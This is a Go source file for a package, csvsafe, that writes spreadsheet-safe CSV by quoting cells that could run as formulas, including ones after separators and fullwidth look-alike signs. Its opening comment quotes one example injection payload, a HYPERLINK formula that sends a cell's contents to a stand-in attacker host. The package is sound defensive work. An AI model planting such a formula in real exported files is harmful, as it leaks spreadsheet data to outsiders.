// Package csvsafe writes CSV that is safe to open in a spreadsheet. A cell
// that begins with =, +, -, @, a tab or a carriage return is read by Excel,
// LibreOffice and Google Sheets as a formula, so a survey answer such as
// =HYPERLINK("http://evil.example/?x="&A1,"click") would become a live
// link that sends the sheet's contents away. Following OWASP's advice on
// CSV injection, such a cell is written with a single quote in front,
// which spreadsheets show as text and do not evaluate.
//
// Their fullwidth and small look-alikes (＝HYPERLINK…) are treated the same.
//
// A spreadsheet may split a line on another separator than the file's: a
// comma file opened in a locale that splits on ";", or a tab-separated
// file saved as .csv. Then "x;=HYPERLINK(…)" becomes two cells, and the
// second runs. So a formula start after any of , ; tab CR LF (and spaces)
// gets a quote in front of it too ("x;'=HYPERLINK(…)"), and the cell is
// written in double quotes. The inner quote is what protects: the double
// quotes cannot, once an earlier cell of the line holds the separator the
// spreadsheet splits on and the cells no longer line up.
//
// A cell that is just a decimal number ("-1.5", "+3") is left alone: no
// spreadsheet treats it as a formula, and figures should stay numbers.
//
// Every CSV staffnet writes goes through this package. A raw Writer (New
// with raw set) writes cells exactly, for files that programs read back.
package csvsafe

import (
	"encoding/csv"
	"io"
	"strings"
	"unicode/utf8"
)

// Writer is a csv.Writer that neutralises formula cells, unless it is raw.
// Comma and UseCRLF may be set as on a csv.Writer.
type Writer struct {
	*csv.Writer
	out io.Writer
	raw bool
	err error
	buf []string
}

// NewWriter returns a Writer that neutralises formula cells.
func NewWriter(w io.Writer) *Writer { return New(w, false) }

// New returns a Writer that writes every cell exactly as given if raw is
// set, and a neutralising one otherwise.
func New(w io.Writer, raw bool) *Writer { return &Writer{Writer: csv.NewWriter(w), out: w, raw: raw} }

// Write writes one record. rec is not modified.
func (w *Writer) Write(rec []string) error {
	if w.raw {
		return w.Writer.Write(rec)
	}
	for i, c := range rec {
		if Risky(c) {
			// Copy only when a cell needs changing: almost none do.
			w.buf = append(w.buf[:0], rec...)
			quote := false
			for j := i; j < len(rec); j++ {
				quote = quote || riskyInside(rec[j])
				w.buf[j] = Cell(rec[j])
			}
			if quote {
				return w.writeQuoted(w.buf)
			}
			return w.Writer.Write(w.buf)
		}
	}
	return w.Writer.Write(rec)
}

// writeQuoted writes rec with every field in double quotes, which
// encoding/csv cannot be asked to do. Such records are rare (a formula
// after a separator), so flushing before one costs nothing that matters.
func (w *Writer) writeQuoted(rec []string) error {
	if w.err != nil {
		return w.err
	}
	w.Writer.Flush()
	if err := w.Writer.Error(); err != nil {
		return err
	}
	var b strings.Builder
	for i, f := range rec {
		if i > 0 {
			b.WriteRune(w.Comma)
		}
		b.WriteByte('"')
		for _, r := range f {
			switch {
			case r == '"':
				b.WriteString(`""`)
			case r == '\r' && w.UseCRLF:
				// as encoding/csv: line breaks inside a field follow UseCRLF
			case r == '\n' && w.UseCRLF:
				b.WriteString("\r\n")
			default:
				b.WriteRune(r)
			}
		}
		b.WriteByte('"')
	}
	if w.UseCRLF {
		b.WriteString("\r\n")
	} else {
		b.WriteByte('\n')
	}
	_, w.err = io.WriteString(w.out, b.String())
	return w.err
}

// Error reports an error from a Write or Flush, like csv.Writer's.
func (w *Writer) Error() error {
	if w.err != nil {
		return w.err
	}
	return w.Writer.Error()
}

// WriteAll writes records and flushes, like csv.Writer's.
func (w *Writer) WriteAll(records [][]string) error {
	for _, rec := range records {
		if err := w.Write(rec); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}

// Risky reports whether a spreadsheet could read s, or a part of s that
// follows a separator it might split on, as a formula.
func Risky(s string) bool { return riskyStart(s) || riskyInside(s) }

// riskyStart reports whether s begins as a formula.
func riskyStart(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '@', '\t', '\r':
		return true
	case '+', '-':
		return !number(s)
	}
	r, _ := utf8.DecodeRuneInString(s)
	return lookAlike[r]
}

// separator reports whether a spreadsheet might split a line at c: the
// comma and semicolon of the two common locales, tab, and line breaks.
func separator(c byte) bool { return c == ',' || c == ';' || c == '\t' || c == '\r' || c == '\n' }

// riskyInside reports whether a formula starts after a separator in s.
func riskyInside(s string) bool {
	for i := 0; i < len(s); i++ {
		if separator(s[i]) && riskyPart(s[i+1:]) >= 0 {
			return true
		}
	}
	return false
}

// riskyPart returns where the formula starts in the part of a cell that
// follows a separator (after spaces), or -1 if it holds none. A part that
// is a plain number up to the next separator ("1,-2") is no formula.
func riskyPart(s string) int {
	i := 0
	for i < len(s) && s[i] == ' ' {
		i++
	}
	if i == len(s) || separator(s[i]) {
		return -1
	}
	part := s[i:]
	if end := strings.IndexAny(part, ",;\t\r\n"); end >= 0 {
		part = part[:end]
	}
	if riskyStart(part) {
		return i
	}
	return -1
}

// lookAlike holds the fullwidth and small forms of =, +, - and @. Excel
// with an East Asian input method turns them into the plain signs as a
// cell is typed or edited, so a cell beginning with one may become a
// formula; a quote in front costs nothing.
var lookAlike = map[rune]bool{
	'＝': true, '＋': true, '－': true, '＠': true, // U+FF1D, U+FF0B, U+FF0D, U+FF20
	'﹦': true, '﹢': true, '﹣': true, '﹫': true, // U+FE66, U+FE62, U+FE63, U+FE6B
}

// Cell returns s as it is written for people: with a single quote in
// front if a spreadsheet could read it as a formula, and in front of each
// formula that follows a separator.
func Cell(s string) string {
	if !Risky(s) {
		return s
	}
	var b strings.Builder
	b.Grow(len(s) + 2)
	if riskyStart(s) {
		b.WriteByte('\'')
	}
	for i := 0; i < len(s); i++ {
		b.WriteByte(s[i])
		if !separator(s[i]) {
			continue
		}
		if at := riskyPart(s[i+1:]); at >= 0 {
			b.WriteString(s[i+1 : i+1+at])
			b.WriteByte('\'')
			i += at
		}
	}
	return b.String()
}

// number reports whether s is a plain decimal number: an optional sign,
// digits, and optionally a point and more digits. Nothing else (no
// exponent, no spaces) so that no formula can pass as one.
func number(s string) bool {
	if s[0] == '+' || s[0] == '-' {
		s = s[1:]
	}
	digits, point := 0, false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !point && digits > 0 && i < len(s)-1:
			point = true
		default:
			return false
		}
	}
	return digits > 0
}
